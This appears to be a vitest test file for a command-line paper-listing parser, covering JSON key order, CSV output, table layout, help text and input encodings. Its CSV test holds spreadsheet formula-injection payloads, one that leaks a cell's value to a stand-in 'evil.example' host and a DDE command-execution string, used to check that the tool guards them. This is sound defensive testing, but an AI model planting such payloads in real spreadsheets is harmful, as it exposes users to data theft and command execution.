/**
 * Output and CLI polish (issue 13): key order, --no-provenance, CSV formula guard and BOM, the
 * table's empty listing, wide characters and code column, per-command help, one-line usage
 * errors with did-you-mean, URL arguments, UTF-16 inputs.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { parse as parseCsv } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { formatPapers } from '../../src/cli/format.js'
import { displayWidth, truncate } from '../../src/cli/formats/width.js'
import { didYouMean } from '../../src/cli/suggest.js'
import { isPaper, type Paper, parseSync, validatePapers } from '../../src/index.js'
import { paperJsonSchema } from '../../src/schema/json-schema.js'
import { arxivRecord as record } from '../schema/records.js'
import { cli } from './run.js'

const fixture = (path: string) => fileURLToPath(new URL(`../../fixtures/${path}`, import.meta.url))
const seed = fixture('hf-text/seed/input.txt')
const empty = fixture('arxiv-list/list-cs-9101-empty/input.html')
const day = ['--reference-date', '2025-12-08']
const arxivRecord = record as Paper

describe('JSON output', () => {
  it('puts `id` and `title` first in json and jsonl, and leaves the library’s records as they are', async () => {
    const json = JSON.parse((await cli(['parse', seed, ...day])).stdout) as Array<Record<string, unknown>>
    const jsonl = (await cli(['parse', seed, ...day, '--format', 'jsonl'])).stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>)
    for (const records of [json, jsonl]) {
      expect(records).toHaveLength(39)
      for (const record of records) expect(Object.keys(record).slice(0, 2)).toEqual(['id', 'title'])
      // The first seed paper, "Pretraining task diversity …" (fixtures/hf-text/seed/expected.json).
      expect(records[0]?.title).toMatch(/^Pretraining task diversity/)
      expect(Object.keys(records[0] ?? {}).at(-1)).toBe('provenance')
    }
    // Only the output is reordered: the records `parse` returns keep their order (and golden files).
    const [first] = parseSync(readFileSync(seed), { referenceDate: '2025-12-08' }).papers
    expect(Object.keys(first ?? {}).slice(0, 2)).not.toEqual(['id', 'title'])
  })

  it('--no-provenance leaves provenance out of json, jsonl and batches, and nothing else', async () => {
    const full = JSON.parse((await cli(['parse', seed, ...day])).stdout) as Array<Record<string, unknown>>
    const lean = JSON.parse((await cli(['parse', seed, ...day, '--no-provenance'])).stdout) as Array<
      Record<string, unknown>
    >
    expect(lean).toHaveLength(39)
    for (const [index, record] of lean.entries()) {
      expect(record).not.toHaveProperty('provenance')
      const { provenance: _, ...rest } = full[index] ?? {}
      expect(record).toEqual(rest)
    }
    const lines = (await cli(['parse', seed, ...day, '--format', 'jsonl', '--no-provenance'])).stdout
      .trimEnd()
      .split('\n')
    expect(lines).toHaveLength(39)
    for (const line of lines) expect(JSON.parse(line)).not.toHaveProperty('provenance')
    const batch = await cli(['parse', seed, seed, ...day, '--no-provenance'])
    expect(batch.code).toBe(0)
    const batchLines = batch.stdout.trimEnd().split('\n')
    expect(batchLines).toHaveLength(78)
    for (const line of batchLines) {
      const record = JSON.parse(line)
      expect(record).not.toHaveProperty('provenance')
      expect(Object.keys(record).slice(0, 2)).toEqual(['id', 'title'])
      expect(record.source.input).toBe(seed)
    }
  })

  it('records without provenance still validate: `papersift validate`, validatePapers and the JSON Schema', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'papersift-lean-'))
    const file = join(dir, 'lean.jsonl')
    writeFileSync(file, (await cli(['parse', seed, ...day, '--format', 'jsonl', '--no-provenance'])).stdout)
    const checked = await cli(['validate', file])
    expect(checked.stdout).toBe('39 valid, 0 invalid\n')
    expect(checked.code).toBe(0)
    const { provenance: _, ...lean } = arxivRecord
    const result = validatePapers(lean)
    expect(result.valid).toBe(true)
    // The typed record has the field `Paper` promises: none known.
    expect(result.papers[0]?.provenance).toEqual({})
    expect(result.papers[0]?.title).toBe(arxivRecord.title)
    // …but the record as it stands lacks it, so it is not a `Paper` yet.
    expect(isPaper(lean)).toBe(false)
    expect(isPaper(arxivRecord)).toBe(true)
    // A provenance that is there is still checked.
    expect(validatePapers({ ...lean, provenance: 'none' }).valid).toBe(false)
    const schema = paperJsonSchema()
    expect(schema.required).toContain('source')
    expect(schema.required).not.toContain('provenance')
  })

  it('--no-provenance is for json and jsonl only', async () => {
    const { code, stderr } = await cli(['parse', seed, '--format', 'csv', '--no-provenance'])
    expect(code).toBe(2)
    expect(stderr).toMatch(/^papersift: --no-provenance is for --format json or jsonl; csv has no provenance\n/)
  })
})

describe('CSV', () => {
  const hostile = (title: string, abstract?: string): Paper => ({
    ...arxivRecord,
    title,
    ...(abstract ? { abstract } : {}),
  })

  it('guards cells a spreadsheet would run as a formula with a leading quote (OWASP)', async () => {
    const titles = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\tTabbed =1+1',
      '\rReturn',
      'Plain title = fine',
    ]
    const text = await formatPapers(
      titles.map((title) => hostile(title)),
      'csv',
    )
    const rows = parseCsv(text, { columns: true }) as Array<Record<string, string>>
    expect(rows.map((row) => row.title)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      "'+1+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1,2)",
      "'\tTabbed =1+1",
      "'\rReturn",
      'Plain title = fine',
    ])
    // Guarded cells are quoted, so the quote is inside the field, not its first character.
    expect(text).toContain(',"\'-2+3",')
    // Numbers are left alone (no count is negative, and they are not text a person typed).
    expect(rows[0]?.authorCount).toBe(String(arxivRecord.authorCount ?? ''))
  })

  it('starts with a UTF-8 byte order mark only with --bom', async () => {
    const plain = await cli(['parse', seed, ...day, '--format', 'csv'])
    expect(plain.stdout.startsWith('id,')).toBe(true)
    const bom = await cli(['parse', seed, ...day, '--format', 'csv', '--bom'])
    expect(bom.code).toBe(0)
    expect(bom.stdout.startsWith('\uFEFFid,')).toBe(true)
    expect(bom.stdout.slice(1)).toBe(plain.stdout)
    const misplaced = await cli(['parse', seed, '--bom'])
    expect(misplaced.code).toBe(2)
    expect(misplaced.stderr).toMatch(/^papersift: --bom is for --format csv, not json\n/)
  })
})

describe('table', () => {
  it('prints "0 papers" for an empty listing', async () => {
    const { code, stdout, stderr } = await cli(['parse', empty, '--format', 'table'])
    expect(code).toBe(0)
    expect(stdout).toBe('0 papers\n')
    expect(stderr).toMatch(/No updates for this time period/)
  })

  it('counts East Asian wide characters as two columns', () => {
    expect(displayWidth('abc')).toBe(3)
    expect(displayWidth('深度学习')).toBe(8)
    expect(displayWidth('ｆｕｌｌ')).toBe(8) // fullwidth Latin
    expect(displayWidth('한국어')).toBe(6)
    expect(displayWidth('café')).toBe(4)
    expect(displayWidth('cafe\u0301')).toBe(4) // a combining accent takes no column
    expect(truncate('深度学习模型', 7)).toBe('深度学…')
    expect(displayWidth(truncate('深度学习模型', 7))).toBe(7)
    expect(truncate('short', 7)).toBe('short')
  })

  it('lines up columns after CJK titles and cuts them to the terminal width', async () => {
    const papers: Paper[] = [
      { ...arxivRecord, title: '大规模语言模型的高效推理：一项系统性综述与未来展望', arxivId: '2401.00001' },
      { ...arxivRecord, title: 'An English title', arxivId: '2401.00002' },
    ]
    // The other columns take 84 with their gaps (arxivRecord fills them all); the title gets the other 26.
    const text = await formatPapers(papers, 'table', { width: 110 })
    const lines = text.trimEnd().split('\n')
    expect(lines.at(-1)).toBe('2 papers')
    // Every row, CJK or not, is at most 110 columns, and the title column starts at the same column.
    for (const line of lines.slice(0, -1)) expect(displayWidth(line)).toBeLessThanOrEqual(110)
    // The CJK title is cut at 26 columns (12 wide characters and `…`), not at 26 characters.
    expect(lines[2]).toMatch(/ 大规模语言模型的高效推理…$/)
    expect(lines[3]).toMatch(/ An English title$/)
    const titleColumn = (line: string) => displayWidth(line.slice(0, line.search(/大|An English|title$/)))
    expect(titleColumn(lines[2] ?? '')).toBe(titleColumn(lines[0] ?? ''))
    expect(titleColumn(lines[3] ?? '')).toBe(titleColumn(lines[0] ?? ''))
  })

  it('shows the first repository in a code column, only when a paper has one', async () => {
    const withCode: Paper = {
      ...arxivRecord,
      repositories: [
        { url: 'https://github.com/owner/first', host: 'github.com', owner: 'owner', name: 'first', official: true },
        { url: 'https://github.com/owner/second', host: 'github.com', owner: 'owner', name: 'second', official: false },
      ],
    }
    const onGitlab: Paper = {
      ...arxivRecord,
      repositories: [{ url: 'https://gitlab.com/group/sub/tool', host: 'gitlab.com', official: true }],
    }
    const none: Paper = { ...arxivRecord, repositories: [] }
    const lines = (await formatPapers([withCode, onGitlab, none], 'table', { width: 120 })).split('\n')
    expect(lines[0]).toMatch(/\bcode\b/)
    expect(lines[2]).toMatch(/\s owner\/first\s/)
    expect(lines[2]).not.toContain('second')
    expect(lines[3]).toMatch(/\s gitlab\.com\/group\/sub\/tool\s/)
    expect(lines[4]).toMatch(/\s-\s+\S/)
    expect((await formatPapers([none], 'table')).split('\n')[0]).not.toMatch(/\bcode\b/)
  })
})

describe('help', () => {
  it('`papersift help parse` and `parse --help` print the command’s help', async () => {
    for (const args of [
      ['help', 'parse'],
      ['parse', '--help'],
      ['parse', '-h'],
    ]) {
      const { code, stdout } = await cli(args)
      expect(code, args.join(' ')).toBe(0)
      expect(stdout).toMatch(/^Usage: papersift parse <input>\.\.\. \[options\]\n/)
      expect(stdout).toContain('--no-provenance')
      expect(stdout).toContain('--bom')
      expect(stdout).not.toContain('--strict')
    }
    const validate = await cli(['help', 'validate'])
    expect(validate.stdout).toMatch(/^Usage: papersift validate <file\|->/)
    expect(validate.stdout).toContain('--strict')
    expect(validate.stdout).not.toContain('--merge')
    expect((await cli(['validate', '--help'])).stdout).toBe(validate.stdout)
    const all = await cli(['help'])
    expect(all.code).toBe(0)
    expect(all.stdout).toBe((await cli(['--help'])).stdout)
    expect(all.stdout).toMatch(/^Usage: papersift <command>/)
    const unknown = await cli(['help', 'prase'])
    expect(unknown.code).toBe(2)
    expect(unknown.stderr).toBe(
      'papersift: unknown command `prase`; did you mean `parse`?\nRun `papersift --help` for usage.\n',
    )
  })

  it('the README documents every option of parse and validate', async () => {
    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8')
    const cliSection = readme.slice(readme.indexOf('## CLI'), readme.indexOf('## Formats'))
    for (const command of ['parse', 'validate']) {
      const help = (await cli(['help', command])).stdout
      const options = [...help.matchAll(/^ {2}(?:-\w, )?(--[a-z-]+)/gm)].map((match) => match[1])
      expect(options.length).toBeGreaterThan(2)
      for (const option of options) expect(cliSection, `${command} ${option}`).toContain(`${option}`)
    }
  })
})

describe('usage errors', () => {
  it('are one line and a hint, with did-you-mean for a misspelt option or command', async () => {
    const cases: Array<[string[], string]> = [
      [
        ['parse', seed, '--refrence-date', '2025-12-08'],
        'papersift: unknown option `--refrence-date`; did you mean `--reference-date`?\nRun `papersift parse --help` for usage.\n',
      ],
      [
        ['parse', seed, '--fromat', 'csv'],
        'papersift: unknown option `--fromat`; did you mean `--format`?\nRun `papersift parse --help` for usage.\n',
      ],
      [
        ['validate', seed, '--strcit'],
        'papersift: unknown option `--strcit`; did you mean `--strict`?\nRun `papersift validate --help` for usage.\n',
      ],
      [['parse', seed, '--zzz'], 'papersift: unknown option `--zzz`\nRun `papersift parse --help` for usage.\n'],
      [
        ['pasre', seed],
        'papersift: unknown command `pasre`; did you mean `parse`?\nRun `papersift --help` for usage.\n',
      ],
    ]
    for (const [args, stderr] of cases) {
      const result = await cli(args)
      expect(result.code, args.join(' ')).toBe(2)
      expect(result.stderr).toBe(stderr)
      expect(result.stdout).toBe('')
    }
  })

  it('suggests only near names', () => {
    expect(didYouMean('refrence-date', ['format', 'reference-date', 'reader'])).toBe('reference-date')
    expect(didYouMean('raeder', ['format', 'reference-date', 'reader'])).toBe('reader')
    expect(didYouMean('xyz', ['format', 'reader'])).toBeUndefined()
    expect(didYouMean('out', ['url', 'use'])).toBeUndefined()
    expect(didYouMean('x'.repeat(10_000), ['format'])).toBeUndefined()
  })

  it('a URL argument says papersift does not fetch, and how to pipe the page in', async () => {
    const url = 'https://arxiv.org/list/cs.CL/recent'
    const parse = await cli(['parse', url])
    expect(parse.code).toBe(2)
    expect(parse.stderr).toBe(
      `papersift: cannot read \`${url}\`: papersift does not fetch URLs, it reads files and stdin\nDownload the page and pipe it in: curl -sL '${url}' | papersift parse -\n`,
    )
    const validate = await cli(['validate', 'http://example.org/papers.jsonl'])
    expect(validate.code).toBe(2)
    expect(validate.stderr).toContain("curl -sL 'http://example.org/papers.jsonl' | papersift validate -")
    // A quote in the URL stays inside the shell quoting.
    const quoted = await cli(['parse', "https://example.org/?q=it's"])
    expect(quoted.stderr).toContain(`curl -sL 'https://example.org/?q=it'\\''s' | papersift parse -`)
  })
})

describe('UTF-16 input', () => {
  const text = readFileSync(seed, 'utf8')
  const dir = mkdtempSync(join(tmpdir(), 'papersift-utf16-'))
  const le = join(dir, 'seed-le.txt')
  const be = join(dir, 'seed-be.txt')
  writeFileSync(le, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))
  const swapped = Buffer.from(text, 'utf16le').swap16()
  writeFileSync(be, Buffer.concat([Buffer.from([0xfe, 0xff]), swapped]))

  it('decodes UTF-16 files with a byte order mark, little and big endian, whole and streamed', async () => {
    const want = JSON.parse((await cli(['parse', seed, ...day])).stdout) as Paper[]
    for (const file of [le, be]) {
      const whole = await cli(['parse', file, ...day])
      expect(whole.stderr, file).toBe('')
      expect(whole.code).toBe(0)
      const papers = JSON.parse(whole.stdout) as Paper[]
      expect(papers.map((paper) => paper.title)).toEqual(want.map((paper) => paper.title))
      expect(papers[0]).toEqual(want[0])
      // --format jsonl streams the file through parseStream: the same papers.
      const streamed = await cli(['parse', file, ...day, '--format', 'jsonl'])
      expect(streamed.stderr).toBe('')
      const lines = streamed.stdout.trimEnd().split('\n')
      expect(lines.map((line) => JSON.parse(line).title)).toEqual(want.map((paper) => paper.title))
    }
  })
})
